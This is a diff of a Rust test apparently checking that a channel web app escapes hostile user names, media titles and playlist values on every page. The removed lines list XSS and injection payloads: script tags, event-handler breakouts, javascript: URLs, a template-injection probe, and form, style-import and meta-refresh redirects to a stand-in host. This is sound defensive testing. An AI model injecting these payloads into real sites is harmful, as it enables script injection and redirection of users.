@@ -5,24 +5,9 @@ use serde_json::json;
 use crate::bench::{Bench, get};
 
 /// What breaks out of a text, an attribute, a comment, a title, a style or a script, in the usual disguises.
-const HOSTILE: [&str; 16] = [
-    "<script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)>",
-    "' onmouseover='alert(1)",
-    "\" autofocus onfocus=alert(1) x=\"",
-    "<svg/onload=alert(1)>",
-    "</svg><script>alert(1)</script>",
-    "--><iframe src=javascript:alert(1)>",
-    "<<script>script>alert(1)<</script>/script>",
-    "</ol></main><form action=//evil.invalid><input name=q>",
-    "<style>@import'//evil.invalid'</style>",
-    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "javascript:alert(1)",
-    "</template><script>alert(1)</script>",
-    "\u{202e}<b>{{ 7*7 }}</b>${7*7}",
-];
+///
+/// A JSON list.
+const HOSTILE: &str = include_str!("../../../../fixtures/hostile_texts.json");
 const PATHS: [&str; 9] = [
     "/",
     "/channels/Lounge/leaderboards",
@@ -37,24 +22,25 @@ const PATHS: [&str; 9] = [
 
 #[tokio::test]
 async fn names_titles_and_values_with_markup_are_text_on_every_page() {
+    let hostile: Vec<String> = serde_json::from_str(HOSTILE).unwrap();
     let bench = Bench::new().await;
-    for (number, evil) in HOSTILE.iter().enumerate() {
+    for (number, evil) in hostile.iter().enumerate() {
         bench
             .event("addUser", &json!({"name": evil, "rank": 1, "meta": {}}))
             .await;
         let film = json!({"title": evil, "type": evil, "id": evil, "seconds": 1, "duration": evil, "currentTime": 0, "paused": false});
         bench.event("changeMedia", &film).await;
         bench.say(evil, &format!("{number} nobody++")).await;
-        bench.put("hostile", evil, *evil).await;
+        bench.put("hostile", evil, evil.clone()).await;
     }
-    let item = |(uid, evil): (usize, &&str)| json!({"uid": uid, "temp": true, "queueby": evil, "media": {"title": evil, "type": "yt", "id": evil, "seconds": 1, "duration": evil, "meta": {}}});
-    let items: Vec<_> = HOSTILE.iter().enumerate().map(item).collect();
+    let item = |(uid, evil): (usize, &String)| json!({"uid": uid, "temp": true, "queueby": evil, "media": {"title": evil, "type": "yt", "id": evil, "seconds": 1, "duration": evil, "meta": {}}});
+    let items: Vec<_> = hostile.iter().enumerate().map(item).collect();
     bench
         .put("kryten_Lounge_playlist", "items", json!(items).to_string())
         .await;
     bench.counted().await;
     let page = bench.page().await;
-    for evil in HOSTILE {
+    for evil in hostile {
         let name: String = evil.bytes().map(|byte| format!("%{byte:02X}")).collect();
         for path in PATHS {
             let path = path.replace("NAME", &name);
